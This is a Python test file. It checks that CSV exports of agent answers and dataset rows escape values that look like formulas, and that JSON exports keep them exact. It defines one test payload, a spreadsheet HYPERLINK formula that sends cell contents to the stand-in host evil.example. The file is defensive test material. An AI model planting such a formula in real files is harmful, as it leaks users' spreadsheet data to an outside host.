"""Exports as CSV: nothing that an agent or an author wrote is a formula; the JSON is exact."""

import asyncio
import csv
import io
from pathlib import Path

import pytest

from support.desk import answered, open_house
from support.played_agents import Dispatch, played
from support.server_process import REFUND_TASK

pytestmark = [pytest.mark.unit, pytest.mark.anyio]

PATIENCE_S = 60.0
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


def table_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def formula(dispatch: Dispatch) -> None:
    dispatch.answer(FORMULA)


async def test_what_an_agent_answers_is_a_text_in_the_table_of_its_batch(tmp_path: Path):
    async with open_house(tmp_path / "house", own_url="http://testserver") as house:
        client = house.owner.client
        with played(formula) as agent:
            agent_id = (await house.owner.agent(endpoint_url=agent.url))["id"]
            dataset = await house.owner.dataset(REFUND_TASK | {"id": "@key"}, agent_id=agent_id)
            asked = {"agent_id": agent_id, "dataset_id": dataset["id"]}
            batch_id = answered(await client.post("/api/runs", json=asked), 202)["batch_id"]
            async with asyncio.timeout(PATIENCE_S):
                async with client.stream("GET", f"/api/batches/{batch_id}/events") as events:
                    await events.aread()  # it ends with the batch
        path = f"/api/batches/{batch_id}/export"
        (row,) = table_of((await client.get(path, params={"format": "csv"})).text)
        assert (row["final_response"], row["task_key"]) == (f"'{FORMULA}", "'@key")
        (item,) = answered(await client.get(path))["items"]
        assert (item["final_response"], item["task_key"]) == (FORMULA, "@key")


async def test_what_an_author_wrote_is_a_text_in_the_table_of_the_dataset(tmp_path: Path):
    async with open_house(tmp_path / "house") as house:
        client = house.owner.client
        made = await house.owner.dataset({"user": FORMULA, "behavior": "- Never refund."})
        path = f"/api/datasets/{made['id']}/export"
        (row,) = table_of((await client.get(path)).text)
        assert (row["user"], row["behavior"]) == (f"'{FORMULA}", "'- Never refund.")
        body = answered(await client.get(path, params={"format": "json"}))
        assert (body["rows"][0]["user"], body["rows"][0]["behavior"]) == (FORMULA, "- Never refund.")
